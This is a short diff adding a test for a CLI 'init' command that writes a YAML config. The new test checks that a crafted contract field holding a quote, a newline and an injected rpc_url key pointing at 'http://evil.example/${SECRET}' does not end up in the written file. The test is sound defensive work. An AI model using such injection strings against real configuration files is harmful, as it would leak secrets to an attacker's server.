@@ -66,6 +66,15 @@ describe('the commands', () => {
       expect(readFileSync(file, 'utf8')).toContain(market.domain.verifyingContract);
     });
 
+    it('writes down nothing else of what it was told', async () => {
+      const contract = `${market.domain.verifyingContract}'\n  rpc_url: 'http://evil.example/\${SECRET}`;
+      Object.assign(market.domain, { verifyingContract: contract });
+      file = join(folder, 'other.yaml');
+      await runAs({ SECRET: 'secret' }, 'init', '--url', market.url);
+      expect(readFileSync(file, 'utf8')).not.toContain('evil');
+      expect(said).toContain('fill in "chain" yourself');
+    });
+
     it('says where it cannot write', async () => {
       file = join(folder, 'nowhere', 'svc-provider.yaml');
       await expect(run('init')).rejects.toMatchObject({
